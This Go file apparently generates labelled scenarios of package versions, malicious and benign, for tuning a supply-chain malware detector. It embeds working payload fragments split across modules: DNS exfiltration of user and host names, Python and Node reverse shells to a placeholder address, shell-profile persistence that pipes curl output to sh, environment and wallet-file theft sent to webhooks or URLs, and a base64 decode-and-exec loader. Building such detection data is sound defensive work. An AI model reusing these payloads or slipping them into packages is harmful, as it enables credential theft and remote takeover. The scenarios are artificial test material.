package generate

import (
	"fmt"
	"slices"
)

// secondScenarios describes rows of versions in forms of the second half: all that is
// around a payload changes from version to version, a payload that stays moves to
// another place in another dress, and one that comes in steps comes in files of its
// own.
func secondScenarios(seed uint64) []Scenario {
	var out []Scenario
	seen := map[string]bool{}
	for _, s := range slices.Concat(secondPython, secondPythonMore, secondScripts) {
		key := s.lang.ecosystem() + " " + s.family
		if s.weak || seen[key] {
			continue
		}
		seen[key] = true
		for _, kind := range []string{"added", "repeated", "honest"} {
			out = append(out, secondRow(seed, s, kind))
		}
	}
	for _, lang := range []language{python, javascript} {
		for n := range secondSteps[lang] {
			for v := range 2 {
				out = append(out, secondSmallSteps(seed, lang, n, v))
			}
		}
	}
	return out
}

// secondRow is a package that is rewritten in each version; from the second on a
// shape is in it.
func secondRow(seed uint64, s shape, kind string) Scenario {
	name := id("row", kind, "moving", s.lang.ecosystem(), s.family, s.name)
	sc := Scenario{ID: name, Kind: kind, Ecosystem: s.lang.ecosystem(), Family: s.family, Split: Tune, Label: Malicious, Payload: 1, Opened: true}
	add := s.bad
	if kind == "honest" {
		sc.Label, sc.Payload, add = Benign, 0, s.good
	}
	dresses := drawn(seed, s, secondDisguises, len(secondDisguises))
	dresses = slices.DeleteFunc(dresses, func(d disguise) bool { return kind == "honest" && !d.honest })
	version := func(n int, code snippet, d disguise, place string) func() built {
		return func() built {
			packed := packageName(source(seed, name))
			rng := source(seed, name, n)
			number := fmt.Sprintf("2.%d.0", n)
			if s.lang == python {
				p := pythonPackage{rng: rng, name: packed, version: number}
				return p.build(code, d, place, false)
			}
			p := scriptPackage{rng: rng, name: packed, version: number}
			return p.build(code, d, place, false)
		}
	}
	at := func(n int) (disguise, string) {
		d := dresses[n%len(dresses)]
		place := placeFor(secondShape(s, d), d, source(seed, name, "place", n))
		if kind == "honest" {
			place = quietPlace(s, honestPlace(place))
		}
		return d, place
	}
	d, place := at(1)
	sc.make = append(sc.make, version(0, snippet{}, disguises[0], plainPlace(s.lang, place)), version(1, add, d, place))
	if kind != "added" {
		d, next := at(2)
		if sdistPlace(next) != sdistPlace(place) { // the next version is the same kind of file
			next = place
		}
		if !secondFits(next, d) {
			d = disguises[0]
		}
		sc.make = append(sc.make, version(2, add, d, next))
	}
	return sc
}

// quietPlace is where an honest upgrade puts code: it adds no hook, which would be
// something to look at whoever adds it.
func quietPlace(s shape, place string) string {
	quiet := []string{"init", "module", "nested", "function", "main-module", "console-script", "lazy-attribute", "main", "bin-bare", "worker-file", "exports-subpath"}
	if slices.Contains(quiet, place) || slices.Contains(s.places, place) {
		return place
	}
	return []string{"init", "main"}[s.lang]
}

// plainPlace is a place of the same kind of file with nothing odd about it.
func plainPlace(lang language, place string) string {
	switch {
	case lang == javascript:
		return "main"
	case sdistPlace(place):
		return "setup"
	}
	return "init"
}

// sdistPlace says whether a place is in an sdist.
func sdistPlace(place string) bool {
	return slices.Contains([]string{"setup", "cmdclass", "backend", "hatch-hook", "distclass", "extension-class", "setup-helper"}, place)
}

// secondSteps are payloads cut into modules, each of which says little; the last
// line, in the package's main module, sets them going.
var secondSteps = [][]stepwise{
	python: {
		{"dns-exfil", []string{
			"SUFFIX = \".s.$DOMAIN\"\nWIDTH = 48\n",
			"import getpass\nimport platform\n\n\ndef facts():\n    return [getpass.getuser(), platform.node()]\n",
			"from ._part2 import facts\n\n\ndef text():\n    return \"|\".join(facts()).encode().hex()\n",
			"import socket\n\nfrom ._part1 import SUFFIX, WIDTH\n\n\ndef ask(value):\n    for at in range(0, len(value), WIDTH):\n        socket.gethostbyname(value[at:at + WIDTH] + SUFFIX)\n",
			"from ._part3 import text\nfrom ._part4 import ask\n\nask(text())\n",
		}},
		{"reverse-shell", []string{
			"PEER = (\"$ADDRESS\", 4444)\n",
			"import subprocess\n\n\ndef answer(line):\n    return subprocess.run(line, shell=True, capture_output=True).stdout\n",
			"import socket\n\nfrom ._part1 import PEER\n\n\ndef opened():\n    return socket.create_connection(PEER, timeout=9).makefile(\"rwb\")\n",
			"def pump(stream, function):\n    for line in stream:\n        stream.write(function(line.decode()))\n        stream.flush()\n",
			"from ._part2 import answer\nfrom ._part3 import opened\nfrom ._part4 import pump\n\npump(opened(), answer)\n",
		}},
		{"persistence", []string{
			"LINE = \"(curl -s $URL | sh) &\"\n",
			"import pathlib\n\n\ndef home(name):\n    return pathlib.Path.home() / name\n",
			"from ._part2 import home\n\n\ndef files():\n    return [home(n) for n in (\".bashrc\", \".zshrc\")]\n",
			"def append(file, line):\n    with file.open(\"a\") as handle:\n        handle.write(\"\\n\" + line + \"\\n\")\n",
			"from ._part1 import LINE\nfrom ._part3 import files\nfrom ._part4 import append\n\nfor _file in files():\n    append(_file, LINE)\n",
		}},
		{"messenger", []string{
			"HOOK = \"$DISCORD\"\n",
			"import os\n\n\ndef rows():\n    return [\"%s=%s\" % pair for pair in os.environ.items()]\n",
			"from ._part2 import rows\n\n\ndef message():\n    return {\"content\": \"\\n\".join(rows())[:1900]}\n",
			"import requests\n\n\ndef post(url, value):\n    return requests.post(url, json=value, timeout=4)\n",
			"from ._part1 import HOOK\nfrom ._part3 import message\nfrom ._part4 import post\n\npost(HOOK, message())\n",
		}},
	},
	javascript: {
		{"decode-exec", []string{
			"exports.parts = ['cmVxdWlyZSgnY2hpbGRf', 'cHJvY2VzcycpLmV4ZWNTeW5jKCd0cnVlJyk='];\n",
			"const { parts } = require('./part1');\n\nexports.joined = () => parts.join('');\n",
			"exports.plain = (text) => Buffer.from(text, 'base64').toString();\n",
			"exports.made = (text) => new Function('require', text);\n",
			"const { joined } = require('./part2');\nconst { plain } = require('./part3');\nconst { made } = require('./part4');\n\nmade(plain(joined()))(require);\n",
		}},
		{"wallets", []string{
			"exports.names = ['.config/solana/id.json', '.electrum/wallets/default_wallet', '.config/Exodus/exodus.wallet'];\n",
			"const os = require('os');\nconst path = require('path');\n\nexports.at = (name) => path.join(os.homedir(), name);\n",
			"const fs = require('fs');\n\nexports.read = (file) => (fs.existsSync(file) ? fs.readFileSync(file, 'base64') : null);\n",
			"exports.put = (body) => fetch('$URL', { method: 'PUT', body });\n",
			"const { names } = require('./part1');\nconst { at } = require('./part2');\nconst { read } = require('./part3');\nconst { put } = require('./part4');\n\nnames.map(at).map(read).filter(Boolean).forEach(put);\n",
		}},
		{"reverse-shell", []string{
			"exports.peer = { host: '$ADDRESS', port: 4444 };\n",
			"const net = require('net');\nconst { peer } = require('./part1');\n\nexports.wire = () => net.connect(peer);\n",
			"const { spawn } = require('child_process');\n\nexports.child = (program) => spawn(program, [], { stdio: 'pipe' });\n",
			"exports.tie = (a, b) => {\n  a.pipe(b.stdin);\n  b.stdout.pipe(a);\n};\n",
			"const { wire } = require('./part2');\nconst { child } = require('./part3');\nconst { tie } = require('./part4');\n\ntie(wire(), child('/bin/sh'));\n",
		}},
		{"messenger", []string{
			"exports.hook = '$TELEGRAM';\n",
			"exports.rows = () => Object.entries(process.env).map((pair) => pair.join('='));\n",
			"const { rows } = require('./part2');\n\nexports.form = () => new URLSearchParams({ chat_id: '1', text: rows().join('\\n') });\n",
			"exports.post = (url, body) => fetch(url, { method: 'POST', body });\n",
			"const { hook } = require('./part1');\nconst { form } = require('./part3');\nconst { post } = require('./part4');\n\npost(hook, form());\n",
		}},
	},
}

// secondSmallSteps is a payload that arrives in five versions, each a module more.
func secondSmallSteps(seed uint64, lang language, way, variant int) Scenario {
	name := id("row-small-steps", "modules", lang.ecosystem(), way, variant)
	steps := secondSteps[lang][way]
	sc := Scenario{ID: name, Kind: "small-steps", Ecosystem: lang.ecosystem(), Family: steps.family, Split: Tune, Label: Malicious, Payload: len(steps.pieces), Opened: true}
	for n := range len(steps.pieces) + 1 {
		sc.make = append(sc.make, func() built {
			v := values(source(seed, name, "values"), "inert")
			packed, version := packageName(source(seed, name)), fmt.Sprintf("0.%d.0", n+1)
			rng := source(seed, name, "around", n*variant)
			last := len(steps.pieces) - 1
			code := snippet{}
			if n > last {
				code.code = v.Replace(steps.pieces[last])
			}
			if lang == python {
				p := pythonPackage{rng: rng, name: packed, version: version}
				for i, piece := range steps.pieces[:min(n, last)] {
					p.contents.add(fmt.Sprintf("%s/_part%d.py", packed, i+1), v.Replace(piece))
				}
				return p.build(code, disguises[0], "init", false)
			}
			p := scriptPackage{rng: rng, name: packed, version: version}
			for i, piece := range steps.pieces[:min(n, last)] {
				p.contents.add(fmt.Sprintf("lib/part%d.js", i+1), v.Replace(piece))
			}
			return p.build(code, disguises[0], "exports-subpath", false)
		})
	}
	return sc
}
